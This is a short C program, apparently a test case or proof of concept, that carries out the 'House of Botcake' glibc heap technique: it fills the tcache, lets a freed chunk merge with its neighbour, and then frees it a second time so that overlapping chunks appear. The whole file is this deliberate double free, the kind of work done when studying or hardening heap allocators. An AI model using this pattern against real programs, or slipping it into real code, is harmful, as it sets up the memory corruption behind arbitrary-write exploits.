/* Usage: house_of_botcake SIZE merged|again
   Frees a, lets it merge with the one in front, and frees it again: one list
   would hold the whole, another the part. "again": after the whole was given
   out once more. */
#include "attack.h"

int main(int argc, char **argv)
{
    size_t n = size_arg(argv), chunk;
    void *fill[7];
    warm(n);
    for (int i = 0; i < 7; i++)
        fill[i] = opaque(malloc(n));
    unsigned char *front = opaque(malloc(n)), *a = opaque(malloc(n)), *again = opaque(a);
    take(n);
    chunk = malloc_usable_size(a) + 8;
    for (int i = 0; i < 7; i++)
        free(fill[i]);
    free(a);
    free(front);
    malloc_trim(0);
    if (is(argv, "again"))
        take_raw(2 * chunk - 8);
    free(again);
    for (int i = 0; i < 100; i++)
        take(n);
    return settle();
}
